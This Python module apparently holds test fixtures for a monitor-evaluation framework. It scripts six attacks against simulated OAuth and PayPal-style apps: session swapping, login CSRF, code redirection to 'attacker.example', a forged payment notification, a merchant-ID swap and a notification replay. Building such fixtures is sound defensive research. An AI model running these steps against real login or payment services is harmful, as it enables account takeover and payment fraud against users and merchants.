"""Attack scripts against the simulated applications.

Each script drives forged messages and cross-site coercions (modeled as
attacker-chosen requests injected into the victim's browser session) and
evaluates a success predicate over the final application state. Scripts
are self-validating fixtures: they succeed against the vulnerable
scenario without monitors and must fail once the selected monitors are
deployed.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING
from urllib.parse import parse_qsl, urlsplit

from . import paypal as pp
from .oauth import APP_ID

if TYPE_CHECKING:
    from .runner import ScenarioRuntime


@dataclass(frozen=True)
class AttackResult:
    attack: str
    succeeded: bool
    detail: str


def _query(url: str) -> dict[str, str]:
    return dict(parse_qsl(urlsplit(url).query))


# ---------------------------------------------------------------------------
# OAuth 2.0
# ---------------------------------------------------------------------------


def session_swapping(rt: "ScenarioRuntime") -> AttackResult:
    """#13: the attacker completes the provider flow with their own
    identity, then coerces the victim's browser into delivering the
    attacker's code (and state) to the callback, logging the victim's
    session in as the attacker."""
    attacker = rt.new_browser("b-attacker")
    atk = rt.oauth_login_steps(attacker, "mallory", stop_before_callback=True)
    if atk is None:
        return AttackResult("session-swapping", False, "attacker could not reach the provider")
    callback_url, code, state = atk

    victim = rt.new_browser("b-victim")
    victim.fetch("GET", f"https://{rt.rp_public}/login")  # victim has a session
    coerced = f"https://{rt.rp_public}/fb-callback?code={code}"
    if state:
        coerced += f"&state={state}"
    # CSRF-style coercion: victim cookie jar, attacker-chosen URL
    coerced_result = victim.fetch("GET", coerced)
    if coerced_result.status == 200 and coerced_result.body == "Logged in":
        # the victim's browser observably reached the logged-in page
        rt.trace.append(
            "ua_end",
            (victim.id, rt.rp_public, rt.ttp_public, state, code),
            session=victim.id,
        )

    victim_sid = victim.jar.get(rt.rp_public, {}).get("session", "")
    token = rt.rp.st.logins.get(victim_sid)
    user = rt.idp.st.tokens.get(token or "", "")
    ok = user == "mallory"
    return AttackResult(
        "session-swapping",
        ok,
        f"victim session logged in as `{user or 'nobody'}`",
    )


def stateless_login_csrf(rt: "ScenarioRuntime") -> AttackResult:
    """#14: against the stateless variant, the attacker forces a login on
    a victim browser that never initiated one."""
    attacker = rt.new_browser("b-attacker")
    atk = rt.oauth_login_steps(attacker, "mallory", stop_before_callback=True)
    if atk is None:
        return AttackResult("stateless-login-csrf", False, "attacker could not reach the provider")
    _url, code, _state = atk

    victim = rt.new_browser("b-victim")
    victim.fetch("GET", f"https://{rt.rp_public}/fb-callback?code={code}")
    victim_sid = victim.jar.get(rt.rp_public, {}).get("session", "")
    token = rt.rp.st.logins.get(victim_sid) or (
        rt.rp.st.logins.get("") if not victim_sid else None
    )
    user = rt.idp.st.tokens.get(token or "", "")
    ok = user == "mallory"
    return AttackResult("stateless-login-csrf", ok, f"victim logged in as `{user or 'nobody'}`")


def code_redirection(rt: "ScenarioRuntime") -> AttackResult:
    """#17: the victim is lured into an authorization flow whose redirect
    URI points at the attacker's site; the attacker then uses the victim's
    code at the honest relying party to log in as the victim."""
    victim = rt.new_browser("b-victim")
    attacker_reduri = "https://attacker.example/cb"
    dialog = (
        f"https://{rt.ttp_public}/dialog?client_id={APP_ID}"
        f"&redirect_uri={attacker_reduri}&state=x"
    )
    r1 = victim.fetch("GET", dialog)
    if r1.status != 200:
        return AttackResult("code-redirection", False, "dialog refused the forged redirect uri")
    action = r1.json()["action"]
    hidden = _query(action)
    r2 = victim.fetch(
        "POST",
        action,
        data={
            "username": "alice",
            "password": "alice-pw",
            "redirect_uri": hidden.get("redirect_uri", attacker_reduri),
            "state": hidden.get("state", "x"),
        },
        follow_redirects=False,
    )
    location = r2.headers.get("location", "")
    if not location.startswith(attacker_reduri):
        return AttackResult("code-redirection", False, "victim code never left for the attacker site")
    stolen_code = _query(location).get("code", "")

    attacker = rt.new_browser("b-attacker")
    r3 = attacker.fetch("GET", f"https://{rt.rp_public}/login")
    own_state = _query(r3.json()["link"]).get("state", "")
    coerced = f"https://{rt.rp_public}/fb-callback?code={stolen_code}"
    if own_state:
        coerced += f"&state={own_state}"
    attacker.fetch("GET", coerced)
    attacker_sid = attacker.jar.get(rt.rp_public, {}).get("session", "")
    token = rt.rp.st.logins.get(attacker_sid)
    user = rt.idp.st.tokens.get(token or "", "")
    ok = user == "alice"
    return AttackResult("code-redirection", ok, f"attacker session logged in as `{user or 'nobody'}`")


# ---------------------------------------------------------------------------
# PayPal
# ---------------------------------------------------------------------------


def forged_ipn(rt: "ScenarioRuntime") -> AttackResult:
    """#18: shop for free by posting a self-crafted payment notification
    (no payment, bogus signature) straight to the notification endpoint."""
    customer = rt.new_browser("b-attacker")
    r1 = customer.fetch("GET", f"https://{rt.rp_public}/checkout?amount={pp.PRICE_STANDARD}")
    invoice = r1.json()["invoice"]
    before = len(rt.pp.st.payments)
    customer.fetch(
        "POST",
        f"https://{rt.rp_public}/notify",
        data={
            "business": pp.MERCHANT_ID,
            "amount": pp.PRICE_STANDARD,
            "invoice": invoice,
            "payer_id": "forged-payer",
            "signature": "not-a-real-signature",
        },
    )
    payed = invoice in rt.shop.payed_invoices()
    no_payment = len(rt.pp.st.payments) == before
    return AttackResult(
        "forged-ipn",
        payed and no_payment,
        f"invoice {'payed' if payed else 'not payed'} with no provider payment",
    )


def merchant_swap(rt: "ScenarioRuntime") -> AttackResult:
    """#20: shop for free by replaying the checkout form with the
    attacker's own merchant account: the provider payment is genuine but
    pays the attacker."""
    customer = rt.new_browser("b-attacker")
    r1 = customer.fetch("GET", f"https://{rt.rp_public}/checkout?amount={pp.PRICE_STANDARD}")
    form = r1.json()
    customer.fetch(
        "POST",
        f"https://{rt.ttp_public}/pay",
        data={
            "business": pp.ATTACKER_MERCHANT_ID,  # tampered hidden field
            "amount": form["amount"],
            "invoice": form["invoice"],
            "return": form["return"],
            "notify_url": form["notify_url"],
        },
    )
    payed = form["invoice"] in rt.shop.payed_invoices()
    return AttackResult(
        "merchant-swap",
        payed,
        "invoice payed into the attacker's account" if payed else "invoice not payed",
    )


def token_replay(rt: "ScenarioRuntime") -> AttackResult:
    """#21: shop for less by replaying a completed cheap payment's
    notification against a second, more expensive invoice. The replayed
    fields are the ones the payer legitimately learns from their own
    receipt; the invoice id is outside the signed body."""
    customer = rt.new_browser("b-attacker")
    ok = rt.paypal_honest_flow(customer, amount=pp.PRICE_CHEAP)
    if not ok or not rt.pp.st.sent_ipns:
        return AttackResult("token-replay", False, "priming payment failed")
    genuine = dict(rt.pp.st.sent_ipns[-1])

    r2 = customer.fetch("GET", f"https://{rt.rp_public}/checkout?amount={pp.PRICE_STANDARD}")
    expensive_invoice = r2.json()["invoice"]
    payments_before = len(rt.pp.st.payments)
    replayed = dict(genuine)
    replayed["invoice"] = expensive_invoice
    customer.fetch("POST", f"https://{rt.rp_public}/notify", data=replayed)
    payed = expensive_invoice in rt.shop.payed_invoices()
    no_second_payment = len(rt.pp.st.payments) == payments_before
    return AttackResult(
        "token-replay",
        payed and no_second_payment,
        "second invoice funded by the replayed payment" if payed else "replay rejected",
    )


ATTACKS = {
    "session-swapping": session_swapping,
    "stateless-login-csrf": stateless_login_csrf,
    "code-redirection": code_redirection,
    "forged-ipn": forged_ipn,
    "merchant-swap": merchant_swap,
    "token-replay": token_replay,
}

FLAG_ATTACKS = {
    "no-state-check": "session-swapping",
    "stateless-rp": "stateless-login-csrf",
    "no-reduri-binding": "code-redirection",
    "no-ipn-revalidation": "forged-ipn",
    "no-merchant-check": "merchant-swap",
    "no-token-freshness": "token-replay",
}
